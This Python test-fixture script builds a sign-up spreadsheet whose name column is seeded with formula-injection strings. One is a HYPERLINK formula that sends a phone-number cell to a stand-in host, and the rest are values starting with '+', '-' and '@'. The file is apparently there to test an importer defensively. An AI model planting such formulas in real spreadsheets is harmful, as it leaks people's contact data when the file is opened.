"""Makes the small hostile files of this folder again (``python tests/data/hostile/make.py``).
The big ones (a sheet claiming A1:XFD1048576, a 1 GiB cell …) are made by the tests at run time."""
from __future__ import annotations

from datetime import datetime
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).resolve().parent


def text(ws, row, col, value):
    cell = ws.cell(row=row, column=col)
    cell._value = value          # a text cell as a web form's export writes it: never a formula
    cell.data_type = "s"


def signup_formulas() -> None:
    """A sign-up sheet whose 姓名 column holds formula-like texts, a date and a number."""
    wb = Workbook()
    ws = wb.active
    for col, head in enumerate(("序号", "姓名", "工作单位", "联系电话"), 1):
        text(ws, 1, col, head)
    names = ['=HYPERLINK("http://example.invalid/?"&D2,"点此核对")', "+8613800138000", "-张三", "@SUM(A1:A9)",
             "王五"]
    for row, name in enumerate(names, 2):
        ws.cell(row=row, column=1, value=row - 1)
        text(ws, row, 2, name)
        text(ws, row, 3, "光明区居民")
    ws.cell(row=7, column=1, value=6)
    ws.cell(row=7, column=2, value=datetime(2024, 7, 16))       # a name Excel turned into a date
    ws.cell(row=8, column=1, value=7)
    ws.cell(row=8, column=2, value=13800138000)                 # a number in the name column
    ws.cell(row=9, column=1, value=8)
    text(ws, 9, 2, "2024-07-16")
    wb.save(HERE / "signup-formulas.xlsx")


if __name__ == "__main__":
    signup_formulas()
